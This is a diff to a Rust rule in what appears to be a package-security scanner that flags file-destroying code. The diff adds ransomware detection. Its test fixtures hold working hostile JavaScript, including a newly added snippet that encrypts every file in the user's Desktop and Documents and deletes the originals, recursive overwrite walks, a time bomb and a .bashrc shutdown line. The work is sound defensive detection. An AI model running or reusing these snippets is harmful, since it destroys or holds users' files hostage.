@@ -8,7 +8,9 @@ crate::declare_rule! {
     /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
     /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
     /// every file found while walking parent directories, shutdown lines appended to shell rc
-    /// files, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
+    /// files, a time bomb: after a fixed date, emptying every file a recursive walk finds, and
+    /// ransomware: a walk of the user's folders (or of files of document types the code lists)
+    /// that encrypts each file and removes the original.
     id: "destructive-fs",
     category: Other,
     severity: High,
@@ -21,12 +23,14 @@ crate::declare_rule! {
            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
            "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
-           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
+           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
+           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
            "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
            // vite 5.2.10: lists directories in one function, writes a fixed package.json into
            // its cache in another, and names '..' elsewhere; no walk overwrites anything
-           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
+           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine",
+           "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nexports.seal = (dir, key) => { for (const p of list(dir, [])) { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
 }
 
 /// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
@@ -40,6 +44,16 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
     for f in code_files(pkg) {
         if is_doc_path(&f.path) {
+            continue;
+        }
+        if let Some((off, what)) = encrypts_user_files(f) {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                off,
+                format!("walks {what}, encrypts each file and removes the original (ransomware)"),
+            );
             continue;
         }
         if !crate::mentions!(
@@ -211,4 +225,65 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
         }
     }
+}
+
+/// Ransomware: a recursive walk of the user's own folders (the home directory's Documents,
+/// Desktop, Pictures…, or every file with a document, image, database or key extension from a
+/// list written in the code) where one function encrypts each file's content
+/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes or renames away the
+/// original. Encryption tools and backup programs encrypt what their user names and keep the
+/// original, or write an archive elsewhere: the deletion beside the cipher in a walk over
+/// folders the code chose is what makes the files hostage. `(offset, what is walked)`.
+fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str)> {
+    let text = f.text.as_str();
+    if !crate::mentions!(text, ["createCipher", "subtle.encrypt"]) {
+        return None;
+    }
+    let js = f.js.as_ref()?;
+    let walks = js.calls.iter().any(|c| {
+        let m = c.path.rsplit('.').next().unwrap_or("");
+        m.starts_with("readdir") && c.path.contains("fs")
+    }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
+    if !walks {
+        return None;
+    }
+    let method = |p: &str| p.rsplit('.').next().unwrap_or("").to_string();
+    let ciphers: Vec<u32> = js
+        .calls
+        .iter()
+        .filter(|c| {
+            let m = method(&c.path);
+            m.starts_with("createCipher") || c.path.ends_with("subtle.encrypt")
+        })
+        .map(|c| c.off)
+        .collect();
+    let removes = |c: &crate::js::Call| {
+        c.path.contains("fs")
+            && matches!(
+                method(&c.path).as_str(),
+                "rm" | "rmSync" | "unlink" | "unlinkSync" | "rename" | "renameSync"
+            )
+    };
+    let scope_has = |sc: Option<(u32, u32)>, pred: &dyn Fn(&crate::js::Call) -> bool| {
+        js.calls
+            .iter()
+            .any(|c| pred(c) && js.scope_of(c.off) == sc)
+    };
+    let hit = ciphers.iter().copied().find(|&o| {
+        let sc = js.scope_of(o);
+        scope_has(sc, &|c| crate::rules::is_file_write(&c.path) || method(&c.path) == "writeFile")
+            && scope_has(sc, &removes)
+    })?;
+    let folders = ["Documents", "Desktop", "Pictures", "Downloads", "OneDrive"]
+        .iter()
+        .filter(|d| text.contains(*d))
+        .count();
+    let home = text.contains("homedir") || text.contains("USERPROFILE") || text.contains("env.HOME");
+    if home && folders >= 2 {
+        return Some((hit, "the user's folders"));
+    }
+    let exts = crate::regex!(
+        r#"['"`]\.?(?:docx?|xlsx?|pptx?|pdf|jpe?g|png|sql|sqlite|csv|pem|key|kdbx|psd|zip|txt|odt|mdb|wallet|dat)['"`]"#
+    );
+    (exts.find_iter(text).take(8).count() >= 6).then_some((hit, "files of the user's document types"))
 }
